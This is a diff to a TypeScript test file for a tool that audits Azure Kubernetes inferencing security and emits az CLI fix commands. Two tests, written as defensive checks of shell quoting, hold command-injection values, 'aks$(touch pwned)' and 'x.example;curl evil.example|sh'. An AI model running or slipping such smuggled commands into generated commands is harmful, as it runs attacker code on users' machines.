@@ -21,8 +21,10 @@ import {
   unrestrictiveRanges
 } from '../../src/evaluate/checks/kubernetes.js'
 import type { CheckResult } from '../../src/model/check.js'
+import { plainText } from '../../src/model/text.js'
 import type { Snapshot } from '../../src/model/snapshot.js'
 import {
+  SUBSCRIPTION,
   dependencyId,
   failed,
   keyed,
@@ -110,22 +112,74 @@ describe('K8S-01 the cluster is a secure inferencing environment', () => {
     expect(r.detail).toContain('1 authorized IP range')
   })
 
+  const AKS = '--resource-group aks-rg --cluster-name aks-inference'
   it.each([
-    ['a pool outside the VNet', { agentPools: [{ name: 'np1' }] }, 'no vnetSubnetID'],
-    ['a public API server', { enablePrivateCluster: false }, '--api-server-authorized-ip-ranges'],
+    [
+      'a pool outside the VNet',
+      { agentPools: [{ name: 'np1' }] },
+      'no `vnetSubnetID`',
+      [
+        `az aks nodepool add ${AKS} --name np12 --mode User --vnet-subnet-id <subnet-id>`,
+        `az aks nodepool delete ${AKS} --name np1`
+      ]
+    ],
+    [
+      'a public API server',
+      { enablePrivateCluster: false },
+      'API server is public and open to every address',
+      [
+        'az aks update --resource-group aks-rg --name aks-inference --api-server-authorized-ip-ranges <your-cidrs>'
+      ]
+    ],
     [
       'node public IPs',
-      { agentPools: [{ name: 'np1', vnetSubnetId: 'x/subnets/s', enableNodePublicIp: true }] },
-      'enableNodePublicIP'
+      {
+        agentPools: [
+          { name: 'system', mode: 'System', vnetSubnetId: 'x/subnets/s', enableNodePublicIp: true }
+        ]
+      },
+      '`enableNodePublicIP`',
+      // The new pool keeps the old one's subnet and mode; only the public IPs go.
+      [
+        `az aks nodepool add ${AKS} --name system2 --mode System --vnet-subnet-id x/subnets/s`,
+        `az aks nodepool delete ${AKS} --name system`
+      ]
     ],
-    ['no network policy', { networkPolicy: undefined }, '--network-policy azure'],
-    ['network policy none (any casing)', { networkPolicy: 'None' }, '--network-policy azure'],
-    ['no node pools', { agentPools: [] }, 'reports no node pools']
-  ])('fails %s with the fix', (_label, overrides, text) => {
+    [
+      'no network policy',
+      { networkPolicy: undefined },
+      'no network policy',
+      ['az aks update --resource-group aks-rg --name aks-inference --network-policy azure']
+    ],
+    [
+      'network policy none (any casing), on kubenet (Calico)',
+      { networkPolicy: 'None', networkPlugin: 'kubenet' },
+      'no network policy',
+      ['az aks update --resource-group aks-rg --name aks-inference --network-policy calico']
+    ],
+    [
+      'no node pools',
+      { agentPools: [] },
+      'reports no node pools',
+      ['az aks nodepool list --resource-group aks-rg --cluster-name aks-inference']
+    ]
+  ])('fails %s with the fix', (_label, overrides, words, commands) => {
     const r = only(K8S_01.evaluate(withCluster(overrides)))
     expect(r.outcome).toBe('fail')
     expect(r.severity).toBe('error')
-    expect(r.detail).toContain(text)
+    expect(r.detail).toContain(words)
+    expect(r.remedy?.commands).toEqual(commands)
+  })
+
+  it('says which placeholders the fix holds and where their values are', () => {
+    const r = only(
+      K8S_01.evaluate(withCluster({ enablePrivateCluster: false, agentPools: [{ name: 'np1' }] }))
+    )
+    const notes = plainText(r.remedy?.placeholders ?? ([] as never))
+    expect(notes).toContain('`<subnet-id>` is the resource id of the subnet')
+    expect(notes).toContain('`<your-cidrs>` is the comma-separated list')
+    // The command is not in the detail any more: the detail says what is wrong and what to do.
+    expect(r.detail).not.toContain('az aks')
   })
 
   it('is unknown for an Arc-enabled cluster, saying why and what to verify', () => {
@@ -139,6 +193,11 @@ describe('K8S-01 the cluster is a secure inferencing environment', () => {
     expect(r.detail).toContain('Arc-enabled')
     expect(r.detail).toContain('how-to-secure-kubernetes-inferencing-environment')
     expect(r.resource.type).toBe('Microsoft.Kubernetes/connectedClusters')
+    expect(r.remedy?.commands).toEqual([
+      'az connectedk8s proxy --resource-group aks-rg --name arc-onprem',
+      'kubectl get nodes --output wide',
+      'kubectl get networkpolicies --all-namespaces'
+    ])
   })
 
   it('fails a cluster that no longer exists and says to detach the compute', () => {
@@ -147,7 +206,14 @@ describe('K8S-01 the cluster is a secure inferencing environment', () => {
     )
     expect(r.outcome).toBe('fail')
     expect(r.detail).toContain('no longer exists')
-    expect(r.detail).toContain('az ml compute detach --name k8s-inference')
+    const detach =
+      'az ml compute detach --name k8s-inference --resource-group workspace-1234 --workspace-name testworkspace'
+    expect(r.remedy?.commands).toEqual([detach])
+    // One cause for this fail and the unknowns of the checks that need the cluster's body.
+    expect(r.cause).toMatchObject({
+      key: `gone:${clusterId().toLowerCase()}`,
+      fix: { commands: [detach] }
+    })
   })
 
   it('is unknown with the role when the cluster read is refused', () => {
@@ -156,6 +222,9 @@ describe('K8S-01 the cluster is a secure inferencing environment', () => {
     )
     expect(r.outcome).toBe('unknown')
     expect(r.detail).toContain('Reader role on resource group aks-rg')
+    expect(r.cause?.fix?.commands).toEqual([
+      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/aks-rg`
+    ])
   })
 
   it('checks a cluster once however many computes attach it, and matches ids case-insensitively', () => {
@@ -227,13 +296,21 @@ describe('K8S-01 node pools on the AKS-managed virtual network', () => {
     const r = only(K8S_01.evaluate(onManagedVnet(keyed([[clusterId(), failed(403)]]))))
     expect(r.outcome).toBe('unknown')
     expect(r.detail).toContain(`Reader role on resource group ${NODE_RG}`)
-    expect(r.detail).toContain(`--scope /subscriptions/`)
+    // The grant is on the node resource group, where AKS keeps the network it created.
+    expect(r.cause?.key).toBe(
+      `reader:/subscriptions/${SUBSCRIPTION}/resourcegroups/${NODE_RG}`.toLowerCase()
+    )
+    expect(r.cause?.fix?.commands).toEqual([
+      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/${NODE_RG}`
+    ])
+    expect(r.cause?.raw).toBeDefined()
+    expect(r.detail).not.toContain(r.cause?.raw ?? '')
   })
 
   it('fails as before when nothing says where AKS put the network', () => {
     const r = only(K8S_01.evaluate(onManagedVnet(undefined)))
     expect(r.outcome).toBe('fail')
-    expect(r.detail).toContain('no vnetSubnetID')
+    expect(r.detail).toContain('no `vnetSubnetID`')
   })
 })
 
@@ -247,9 +324,26 @@ describe('K8S-06 the AKS cluster is in the workspace region', () => {
     expect(r.detail).toContain(
       'is in westeurope, but workspace testworkspace has a private endpoint and is in eastus2euap'
     )
-    expect(r.detail).toContain(
-      'az aks create --resource-group aks-rg --name <cluster> --location eastus2euap'
+    // A cluster cannot move: a new one in the workspace's region, the extension, then attach.
+    const newId = clusterId('aks-inference-eastus2euap')
+    expect(r.remedy?.commands).toEqual([
+      'az aks create --resource-group aks-rg --name aks-inference-eastus2euap --location eastus2euap --vnet-subnet-id <subnet-id> --network-plugin azure --network-policy azure --enable-private-cluster',
+      expect.stringContaining(
+        'az k8s-extension create --name azureml --extension-type Microsoft.AzureML.Kubernetes --cluster-type managedClusters --cluster-name aks-inference-eastus2euap --resource-group aks-rg'
+      ),
+      `az ml compute attach --resource-group workspace-1234 --workspace-name testworkspace --type Kubernetes --name k8s-eastus2euap --resource-id ${newId} --identity-type SystemAssigned --namespace azureml`
+    ])
+    expect(plainText(r.remedy?.placeholders ?? ([] as never))).toContain(
+      '`<subnet-id>` is the resource id of a subnet in eastus2euap'
     )
+  })
+
+  it('is unknown when the cluster reports no region, with the command that shows it', () => {
+    const r = only(K8S_06.evaluate(withCluster({ location: undefined })))
+    expect(r.outcome).toBe('unknown')
+    expect(r.remedy?.commands).toEqual([
+      'az aks show --resource-group aks-rg --name aks-inference --query location --output tsv'
+    ])
   })
 
   it('skips a workspace without a private endpoint, and Arc clusters', () => {
@@ -271,6 +365,16 @@ describe('K8S-06 the AKS cluster is in the workspace region', () => {
     )
     expect(r.outcome).toBe('unknown')
     expect(r.detail).toContain('Reader role on resource group aks-rg')
+    expect(r.cause?.key).toBe(`reader:/subscriptions/${SUBSCRIPTION}/resourcegroups/aks-rg`)
+  })
+
+  it("is unknown with the workspace read's cause when the workspace cannot be read", () => {
+    const r = only(K8S_06.evaluate(kubernetesSnapshot({ workspace: failed(403) })))
+    expect(r.outcome).toBe('unknown')
+    expect(r.detail).toContain('Could not read workspace testworkspace (HTTP 403')
+    expect(r.cause?.fix?.commands).toEqual([
+      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/workspace-1234`
+    ])
   })
 })
 
@@ -280,9 +384,23 @@ describe('K8S-07 a private AKS cluster has no public FQDN', () => {
   it('fails a private cluster with enablePrivateClusterPublicFQDN, with the command that removes it', () => {
     const r = only(K8S_07.evaluate(withCluster({ enablePrivateClusterPublicFqdn: true })))
     expect(r).toMatchObject({ outcome: 'fail', severity: 'error' })
-    expect(r.detail).toContain(
+    expect(r.detail).toContain('also has a public FQDN')
+    expect(r.remedy?.commands).toEqual([
       'az aks update --resource-group aks-rg --name aks-inference --disable-public-fqdn'
-    )
+    ])
+  })
+
+  it('quotes a name that is not plain characters, so pasting the command runs nothing else', () => {
+    // Names come from Azure or from a snapshot file: a crafted one stays one shell word.
+    const fix = (name: string) =>
+      only(K8S_07.evaluate(withCluster({ enablePrivateClusterPublicFqdn: true, name }))).remedy
+        ?.commands
+    expect(fix('aks$(touch pwned)')).toEqual([
+      "az aks update --resource-group aks-rg --name 'aks$(touch pwned)' --disable-public-fqdn"
+    ])
+    expect(fix("it's")).toEqual([
+      "az aks update --resource-group aks-rg --name 'it'\\''s' --disable-public-fqdn"
+    ])
   })
 
   it('passes without it and skips a public cluster', () => {
@@ -329,13 +447,19 @@ describe('K8S-08 the container registry is Premium', () => {
       severity: 'error',
       resource: { name: 'testworkspaceacr' }
     })
-    expect(r.detail).toContain('--name testworkspaceacr --sku Premium')
+    expect(r.detail).toContain('is Standard; only Premium registries support private endpoints')
+    expect(r.remedy?.commands).toEqual([
+      'az acr update --resource-group workspace-1234 --name testworkspaceacr --sku Premium'
+    ])
   })
 
   it('is unknown naming Reader when the registry cannot be read, skipped without an AKS cluster', () => {
     const r = only(K8S_08.evaluate(withRegistry('unreadable')))
     expect(r.outcome).toBe('unknown')
     expect(r.detail).toContain('Reader role')
+    expect(r.cause?.fix?.commands).toEqual([
+      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/workspace-1234`
+    ])
     const arc = kubernetesCompute('arc-inference', arcClusterId())
     const s = kubernetesSnapshot({
       computes: ok([arc]),
@@ -393,7 +517,11 @@ describe('K8S-09 private endpoints of the workspace and its dependencies in the 
       expect(r).toMatchObject({ outcome: 'fail', severity: 'error' })
       expect(r.detail).toContain('/virtualNetworks/myVnet')
       expect(r.detail).toContain('(vnet-aks)')
-      expect(r.detail).toContain('--vnet-name vnet-aks')
+      // Peer both ways: the cluster's network to the endpoints' and back.
+      expect(r.remedy?.commands).toEqual([
+        `az network vnet peering create --resource-group aks-rg --vnet-name vnet-aks --name vnet-aks-to-myVnet --remote-vnet ${vnetId()} --allow-vnet-access`,
+        `az network vnet peering create --resource-group rg-1234 --vnet-name myVnet --name myVnet-to-vnet-aks --remote-vnet ${otherVnet} --allow-vnet-access`
+      ])
     }
   })
 
@@ -406,6 +534,10 @@ describe('K8S-09 private endpoints of the workspace and its dependencies in the 
     const unread = K8S_09.evaluate(elsewhere(keyed([[otherVnet, failed(403)]])))
     expect(unread.map(r => r.outcome)).toEqual(['unknown', 'unknown', 'unknown', 'unknown'])
     expect(unread[0]!.detail).toContain('Reader role')
+    // One cause for all four: Reader on the cluster network's resource group.
+    expect(new Set(unread.map(r => r.cause?.key))).toEqual(
+      new Set([`reader:${otherVnet.replace(/\/providers\/.*$/, '')}`.toLowerCase()])
+    )
   })
 
   it('fails only the storage account whose private endpoint is in an unpeered VNet, naming that VNet', () => {
@@ -426,11 +558,17 @@ describe('K8S-09 private endpoints of the workspace and its dependencies in the 
     expect(r['testworkspacestorage']).toMatchObject({ outcome: 'fail', severity: 'error' })
     expect(r['testworkspacestorage']!.detail).toContain('pe-storage in ' + vnetId('vnet-data'))
     expect(r['testworkspacestorage']!.detail).toContain("neither the cluster's (myVnet)")
-    // The fix creates the storage endpoints the workspace needs, blob and file, in the cluster VNet.
+    // The fix peers the networks; the alternative names both sub-resources the workspace needs.
+    expect(r['testworkspacestorage']!.remedy?.commands).toEqual([
+      `az network vnet peering create --resource-group rg-1234 --vnet-name myVnet --name myVnet-to-vnet-data --remote-vnet ${vnetId('vnet-data')} --allow-vnet-access`,
+      `az network vnet peering create --resource-group rg-1234 --vnet-name vnet-data --name vnet-data-to-myVnet --remote-vnet ${vnetId()} --allow-vnet-access`
+    ])
     expect(r['testworkspacestorage']!.detail).toContain(
-      `--private-connection-resource-id ${storage} --group-id blob`
+      '`az network private-endpoint create --group-id blob`'
     )
-    expect(r['testworkspacestorage']!.detail).toContain('--group-id file')
+    expect(r['testworkspacestorage']!.detail).toContain(
+      '`az network private-endpoint create --group-id file`'
+    )
     expect(
       ['testworkspace', 'testworkspacekv', 'testworkspaceacr'].map(n => r[n]!.outcome)
     ).toEqual(['pass', 'pass', 'pass'])
@@ -453,8 +591,9 @@ describe('K8S-09 private endpoints of the workspace and its dependencies in the 
     expect(r.detail).toContain(
       'storage account testworkspacestorage has no approved private endpoint for its file sub-resource'
     )
-    expect(r.detail).toContain('--group-id file')
-    expect(r.detail).not.toContain('--group-id blob')
+    expect(r.remedy?.commands).toEqual([
+      `az network private-endpoint create --resource-group rg-1234 --name pe-testworkspacestorage-file --vnet-name myVnet --subnet snet-inference --private-connection-resource-id ${storage} --group-id file --connection-name pe-testworkspacestorage-file`
+    ])
   })
 
   it('fails a key vault without a private endpoint with the create command (real names, --group-id vault)', () => {
@@ -468,9 +607,9 @@ describe('K8S-09 private endpoints of the workspace and its dependencies in the 
     )['testworkspacekv']!
     expect(r).toMatchObject({ outcome: 'fail', severity: 'error' })
     expect(r.detail).toContain('key vault testworkspacekv has no approved private endpoint')
-    expect(r.detail).toContain(
-      `az network private-endpoint create --resource-group rg-1234 --name pe-testworkspacekv-vault --vnet-name myVnet --subnet snet-inference --private-connection-resource-id ${vault} --group-id vault`
-    )
+    expect(r.remedy?.commands).toEqual([
+      `az network private-endpoint create --resource-group rg-1234 --name pe-testworkspacekv-vault --vnet-name myVnet --subnet snet-inference --private-connection-resource-id ${vault} --group-id vault --connection-name pe-testworkspacekv-vault`
+    ])
   })
 
   it('does not count a Pending connection, and says so', () => {
@@ -498,7 +637,11 @@ describe('K8S-09 private endpoints of the workspace and its dependencies in the 
       K8S_09.evaluate({ ...s, workspace: ok({ ...ws!, privateEndpointConnections: [] }) })
     )['testworkspace']!
     expect(r.outcome).toBe('fail')
-    expect(r.detail).toContain('--group-id amlworkspace')
+    expect(r.remedy?.commands).toEqual([
+      expect.stringMatching(
+        /^az network private-endpoint create --resource-group rg-1234 --name pe-testworkspace-amlworkspace .* --group-id amlworkspace /
+      )
+    ])
   })
 
   it('passes a storage account that admits the node subnet through a service endpoint', () => {
@@ -525,6 +668,9 @@ describe('K8S-09 private endpoints of the workspace and its dependencies in the 
       'Could not read key vault testworkspacekv (HTTP 403 AuthorizationFailed'
     )
     expect(r['testworkspacekv']!.detail).toContain('Reader role on resource group workspace-1234')
+    expect(r['testworkspacekv']!.cause?.fix?.commands).toEqual([
+      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/workspace-1234`
+    ])
     expect(r['testworkspacestorage']!.outcome).toBe('pass')
     const s = kubernetesSnapshot()
     const pe = byName(
@@ -538,6 +684,10 @@ describe('K8S-09 private endpoints of the workspace and its dependencies in the 
     )['testworkspaceacr']!
     expect(pe.outcome).toBe('unknown')
     expect(pe.detail).toContain('Could not read private endpoint pe-registry')
+    // The scope of the grant is the private endpoint's resource group, not the registry's.
+    expect(pe.cause?.key).toBe(
+      `reader:${privateEndpointId('pe-registry').replace(/\/providers\/.*$/, '')}`.toLowerCase()
+    )
   })
 
   it('reads connections, virtual network rules and sub-resources from the ARM bodies', () => {
@@ -663,13 +813,15 @@ describe('K8S-01 authorized IP ranges that restrict nothing', () => {
     [['64.0.0.0/2'], '64.0.0.0/2 (wider than /8)'],
     [['10.0.0.0/7'], '10.0.0.0/7 (wider than /8)'],
     [['2001:db8::/12'], '2001:db8::/12 (wider than /16)'],
-    [['banana'], "'banana' (not an IP address or CIDR range)"]
+    [['banana'], 'banana (not an IP address or CIDR range)']
   ])('fails %j as no restriction', (ranges, why) => {
     const r = withRanges(ranges)
     expect(r.outcome).toBe('fail')
     expect(r.detail).toContain('authorized IP ranges do not restrict it')
     expect(r.detail).toContain(why)
-    expect(r.detail).toContain('--api-server-authorized-ip-ranges <your-cidrs>')
+    expect(r.remedy?.commands).toEqual([
+      'az aks update --resource-group aks-rg --name aks-inference --api-server-authorized-ip-ranges <your-cidrs>'
+    ])
   })
 
   it.each([
@@ -693,9 +845,10 @@ describe('K8S-01 authorized IP ranges that restrict nothing', () => {
   })
 
   it('lists only the open ranges, not the ones that restrict', () => {
-    expect(unrestrictiveRanges(['10.1.0.0/16', '0.0.0.0/0', ' 192.0.2.0/24 '])).toEqual([
-      '0.0.0.0/0 (a default route: every IPv4 address)'
-    ])
+    const open = unrestrictiveRanges(['10.1.0.0/16', '0.0.0.0/0', ' 192.0.2.0/24 '])
+    expect(open.map(plainText)).toEqual(['0.0.0.0/0 (a default route: every IPv4 address)'])
+    // The range is Azure's value, shown as code; the reason is ours.
+    expect(open[0]).toEqual([{ code: '0.0.0.0/0' }, ' (a default route: every IPv4 address)'])
   })
 })
 
@@ -721,29 +874,39 @@ describe('K8S-01 against PSRule for Azure AKS fixtures', () => {
   it.each(['cluster-A', 'cluster-B', 'cluster-G', 'cluster-H', 'cluster-I', 'cluster-J'])(
     '%s has no network policy: we fail it, as Azure.AKS.NetworkPolicy does',
     name => {
-      expect(clusterProblems(named(name)).some(p => p.includes('no network policy'))).toBe(true)
+      expect(
+        clusterProblems(named(name)).some(p => plainText(p.text).includes('no network policy'))
+      ).toBe(true)
     }
   )
 
   it.each(['cluster-C', 'cluster-D', 'cluster-F', 'cluster-K', 'cluster-L'])(
     '%s has a network policy: we agree with Azure.AKS.NetworkPolicy',
     name => {
-      expect(clusterProblems(named(name)).some(p => p.includes('no network policy'))).toBe(false)
+      expect(
+        clusterProblems(named(name)).some(p => plainText(p.text).includes('no network policy'))
+      ).toBe(false)
     }
   )
 
   it('cluster-F (authorized IP ranges 0.0.0.0/32, the "node egress IP only" setting) passes the API server test, as Azure.AKS.AuthorizedIPs', () => {
-    expect(clusterProblems(named('cluster-F')).some(p => p.includes('API server'))).toBe(false)
+    expect(
+      clusterProblems(named('cluster-F')).some(p => plainText(p.text).includes('API server'))
+    ).toBe(false)
   })
 
   it('cluster-L is private: PSRule skips Azure.AKS.AuthorizedIPs (none), we pass the API server test', () => {
-    expect(clusterProblems(named('cluster-L')).some(p => p.includes('API server'))).toBe(false)
+    expect(
+      clusterProblems(named('cluster-L')).some(p => plainText(p.text).includes('API server'))
+    ).toBe(false)
   })
 
   it.each(['cluster-A', 'cluster-C', 'cluster-D', 'cluster-K'])(
     '%s has a public API server without ranges: we fail it, as Azure.AKS.AuthorizedIPs and Azure Policy 0e246bcf do',
     name => {
-      expect(clusterProblems(named(name)).some(p => p.includes('API server is public'))).toBe(true)
+      expect(
+        clusterProblems(named(name)).some(p => plainText(p.text).includes('API server is public'))
+      ).toBe(true)
     }
   )
 
@@ -768,8 +931,12 @@ describe('K8S-02 the Azure Machine Learning extension is deployed', () => {
     const r = only(K8S_02.evaluate(s))
     expect(r.outcome).toBe('fail')
     expect(r.detail).toContain('has no Azure Machine Learning extension (it has microsoft.flux)')
-    expect(r.detail).toContain(
-      'az k8s-extension create --name azureml --extension-type Microsoft.AzureML.Kubernetes --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg'
+    expect(r.remedy?.commands).toEqual([
+      'az k8s-extension create --name azureml --extension-type Microsoft.AzureML.Kubernetes --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --scope cluster --config enableInference=True inferenceRouterServiceType=LoadBalancer internalLoadBalancerProvider=azure allowInsecureConnections=False sslCname=<scoring-host-name> --config-protected sslCertPemFile=<cert.pem> sslKeyPemFile=<key.pem>'
+    ])
+    // The host name and certificate files are the user's: the placeholders say what they are.
+    expect(plainText(r.remedy?.placeholders ?? ([] as never))).toContain(
+      '`<scoring-host-name>` is the host name clients score on'
     )
   })
 
@@ -781,12 +948,25 @@ describe('K8S-02 the Azure Machine Learning extension is deployed', () => {
   })
 
   it.each([
-    ['a failed extension', {}, { provisioningState: 'Failed' }, 'provisioning state is Failed'],
-    ['inference off', { enableInference: 'False' }, {}, "enableInference is 'False'"]
-  ])('fails %s', (_label, settings, overrides, text) => {
+    [
+      'a failed extension',
+      {},
+      { provisioningState: 'Failed' },
+      'provisioning state is Failed',
+      'az k8s-extension show --name azureml --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --query "{state: provisioningState, statuses: statuses}"'
+    ],
+    [
+      'inference off',
+      { enableInference: 'False' },
+      {},
+      '`enableInference` is False',
+      'az k8s-extension update --name azureml --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --config enableInference=True'
+    ]
+  ])('fails %s', (_label, settings, overrides, words, command) => {
     const r = only(K8S_02.evaluate(withExtension(settings, overrides)))
     expect(r.outcome).toBe('fail')
-    expect(r.detail).toContain(text)
+    expect(r.detail).toContain(words)
+    expect(r.remedy?.commands).toEqual([command])
   })
 
   it('fails when enableInference is not set at all', () => {
@@ -795,7 +975,7 @@ describe('K8S-02 the Azure Machine Learning extension is deployed', () => {
     const r = only(
       K8S_02.evaluate(kubernetesSnapshot({ clusterExtensions: keyed([[clusterId(), ok([ext])]]) }))
     )
-    expect(r.detail).toContain('enableInference is not set')
+    expect(r.detail).toContain('`enableInference` is not set')
   })
 
   it('is unknown when the extensions could not be read', () => {
@@ -806,6 +986,16 @@ describe('K8S-02 the Azure Machine Learning extension is deployed', () => {
     )
     expect(r.outcome).toBe('unknown')
     expect(r.detail).toContain('extensions of cluster aks-inference')
+    expect(r.cause?.fix?.commands).toEqual([
+      `az role assignment create --assignee <client-id> --role Reader --scope /subscriptions/${SUBSCRIPTION}/resourceGroups/aks-rg`
+    ])
+    // K8S-03 reads the same list: one cause for both.
+    const k8s03 = only(
+      K8S_03.evaluate(
+        kubernetesSnapshot({ clusterExtensions: keyed([[clusterId(), failed(403)]]) })
+      )
+    )
+    expect(k8s03).toMatchObject({ outcome: 'unknown', cause: { key: r.cause?.key } })
   })
 
   it('skips a cluster attached only as a legacy AKS compute', () => {
@@ -852,7 +1042,7 @@ describe('K8S-03 the inference router is not public', () => {
       { inferenceRouterServiceType: 'Ingress' },
       'fail',
       'error',
-      "'Ingress'"
+      '`inferenceRouterServiceType` Ingress, which is not'
     ]
   ])('%s → %s', (_label, settings, outcome, severity, text) => {
     const r = only(K8S_03.evaluate(withExtension(settings)))
@@ -868,7 +1058,14 @@ describe('K8S-03 the inference router is not public', () => {
       )
     )
     expect(r.severity).toBe('error')
-    expect(r.detail).toContain('also allowInsecureConnections is True')
+    expect(r.detail).toContain('also `allowInsecureConnections` is True')
+    // One update sets both the internal load balancer and HTTPS only.
+    expect(r.remedy?.commands).toEqual([
+      'az k8s-extension update --name azureml --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --config inferenceRouterServiceType=LoadBalancer internalLoadBalancerProvider=azure allowInsecureConnections=False sslCname=scoring.contoso.internal --config-protected sslCertPemFile=<cert.pem> sslKeyPemFile=<key.pem>'
+    ])
+    expect(plainText(r.remedy?.placeholders ?? ([] as never))).toContain(
+      'the certificate for scoring.contoso.internal and its private key'
+    )
   })
 
   // how-to-deploy-kubernetes-extension, configuration settings table: internalLoadBalancerProvider
@@ -893,8 +1090,10 @@ describe('K8S-03 the inference router is not public', () => {
       const r = only(K8S_03.evaluate(s))
       expect(r.outcome).toBe('unknown')
       expect(r.detail).toContain('applies to AKS clusters only')
-      expect(r.detail).toContain('kubectl get service azureml-fe --namespace azureml')
-      expect(r.detail).toContain('--cluster-type connectedClusters')
+      expect(r.remedy?.commands).toEqual([
+        'kubectl get service azureml-fe --namespace azureml',
+        'az k8s-extension update --name azureml --cluster-type connectedClusters --cluster-name arc-onprem --resource-group aks-rg --config inferenceRouterServiceType=NodePort'
+      ])
     }
   )
 
@@ -938,14 +1137,15 @@ describe('K8S-03 the inference router is not public', () => {
     it('passes with sslCname and the protected certificate settings, naming them', () => {
       const r = tls({})
       expect(r.outcome).toBe('pass')
-      expect(r.detail).toContain('sslCname scoring.contoso.internal')
+      expect(r.detail).toContain('`sslCname` scoring.contoso.internal')
       expect(r.detail).toContain('a certificate in its protected settings')
+      expect(r.remedy).toBeUndefined()
     })
 
     it('passes with sslSecret, and with the names the CLI stores (scoringFe.sslCert/sslKey)', () => {
       const secret = tls({ sslSecret: 'azureml-fe-tls' }, [])
       expect(secret.outcome).toBe('pass')
-      expect(secret.detail).toContain('certificate from sslSecret azureml-fe-tls')
+      expect(secret.detail).toContain('certificate from `sslSecret` azureml-fe-tls')
       expect(tls({}, ['scoringFe.sslCert', 'scoringFe.sslKey']).outcome).toBe('pass')
     })
 
@@ -953,8 +1153,10 @@ describe('K8S-03 the inference router is not public', () => {
       for (const insecure of ['False', undefined]) {
         const r = tls({ sslCname: undefined, allowInsecureConnections: insecure })
         expect([r.outcome, r.severity]).toEqual(['fail', 'warning'])
-        expect(r.detail).toContain('but sslCname is not set')
-        expect(r.detail).toContain('sslCname=<scoring-host-name>')
+        expect(r.detail).toContain('but `sslCname` is not set')
+        expect(r.remedy?.commands).toEqual([
+          'az k8s-extension update --name azureml --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg --config allowInsecureConnections=False sslCname=<scoring-host-name> --config-protected sslCertPemFile=<cert.pem> sslKeyPemFile=<key.pem>'
+        ])
       }
     })
 
@@ -970,6 +1172,18 @@ describe('K8S-03 the inference router is not public', () => {
       expect(r.outcome).toBe('unknown')
       expect(r.detail).toContain('could not be confirmed')
       expect(r.detail).toContain('sslSecret')
+      expect(r.remedy?.commands).toEqual([
+        'openssl s_client -connect scoring.contoso.internal:443 -servername scoring.contoso.internal -brief </dev/null'
+      ])
+    })
+
+    it('never pastes a host name Azure reports into a command unless it is a host name', () => {
+      const r = tls({ sslCname: 'x.example;curl evil.example|sh' }, null)
+      expect(r.outcome).toBe('unknown')
+      expect(r.remedy?.commands.join('\n')).not.toContain('curl')
+      expect(r.remedy?.commands).toEqual([
+        'openssl s_client -connect <scoring-host-name>:443 -servername <scoring-host-name> -brief </dev/null'
+      ])
     })
 
     it('a public router stays an error whatever the TLS settings', () => {
@@ -1015,9 +1229,13 @@ describe('K8S-04 the cluster is attached', () => {
     const s = secureSnapshot({ request: { route: 'kubernetes', deploymentMethod: 'cli' } })
     const r = only(K8S_04.evaluate(s))
     expect(r.outcome).toBe('fail')
-    expect(r.detail).toContain(
-      'az ml compute attach --resource-group workspace-1234 --workspace-name testworkspace --type Kubernetes'
-    )
+    expect(r.remedy?.commands).toEqual([
+      'az ml compute attach --resource-group workspace-1234 --workspace-name testworkspace --type Kubernetes --name <compute-name> --resource-id <cluster-id> --identity-type SystemAssigned --namespace azureml'
+    ])
+    // Nothing is attached, so the cluster and the compute's name are the user's to choose.
+    const notes = plainText(r.remedy?.placeholders ?? ([] as never))
+    expect(notes).toContain('`<cluster-id>` is the resource id of the secured AKS')
+    expect(notes).toContain('`<compute-name>` is the name the workspace gives the cluster')
   })
 
   it('fails a compute that did not provision', () => {
@@ -1029,6 +1247,10 @@ describe('K8S-04 the cluster is attached', () => {
     const r = only(K8S_04.evaluate(s))
     expect(r.outcome).toBe('fail')
     expect(r.detail).toContain('provisioning state Failed')
+    expect(r.remedy?.commands).toEqual([
+      'az ml compute detach --name k8s-inference --resource-group workspace-1234 --workspace-name testworkspace',
+      `az ml compute attach --resource-group workspace-1234 --workspace-name testworkspace --type Kubernetes --name k8s-inference --resource-id ${clusterId()} --identity-type SystemAssigned --namespace azureml`
+    ])
   })
 
   // One result per compute (issue 18): a legacy compute behind an internal load balancer is not
@@ -1039,6 +1261,14 @@ describe('K8S-04 the cluster is attached', () => {
     expect([r.outcome, r.severity]).toEqual(['fail', 'notice'])
     expect(r.detail).toContain('internal load balancer, so it is not public')
     expect(r.detail).toContain('is a legacy AKS compute')
+    // The move: the extension on the same cluster, then a Kubernetes compute with a free name.
+    expect(r.remedy?.commands).toEqual([
+      expect.stringMatching(
+        /^az k8s-extension create --name azureml .* --cluster-type managedClusters --cluster-name aks-inference --resource-group aks-rg /
+      ),
+      `az ml compute attach --resource-group workspace-1234 --workspace-name testworkspace --type Kubernetes --name aks-v1-k8s --resource-id ${clusterId()} --identity-type SystemAssigned --namespace azureml`
+    ])
+    expect(r.detail).toContain('then detach aks-v1.')
   })
 
   it.each([['PublicIp'], [null]])(
@@ -1069,6 +1299,15 @@ describe('K8S-05 Kubernetes endpoints target a secured, attached cluster', () =>
     const r = only(K8S_05.evaluate(s))
     expect(r.outcome).toBe('fail')
     expect(r.detail).toContain('compute gone, which is not attached')
+    // Recreated on the workspace's secured Kubernetes compute; its deployments go with it.
+    const args = '--resource-group workspace-1234 --workspace-name testworkspace --name ep'
+    expect(r.remedy?.commands).toEqual([
+      `az ml online-endpoint delete ${args}`,
+      `az ml online-endpoint create ${args} --file endpoint.yml --set compute=azureml:k8s-inference`
+    ])
+    expect(plainText(r.remedy?.placeholders ?? ([] as never))).toContain(
+      "`endpoint.yml` is the endpoint's YAML"
+    )
   })
 
   it('finds the compute by name as well as by id', () => {
@@ -1092,6 +1331,11 @@ describe('K8S-05 Kubernetes endpoints target a secured, attached cluster', () =>
     expect(r.outcome).toBe('fail')
     expect(r.severity).toBe('error')
